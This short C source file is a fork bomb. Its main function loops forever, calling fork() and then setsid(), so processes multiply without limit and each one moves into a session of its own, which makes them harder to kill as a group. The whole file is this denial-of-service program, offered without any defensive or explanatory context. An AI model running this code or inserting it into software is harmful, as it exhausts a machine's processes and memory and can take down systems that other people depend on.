/* Forks for ever, every process in a session of its own. */
#include <unistd.h>
int main(void) { for (;;) { fork(); setsid(); } }
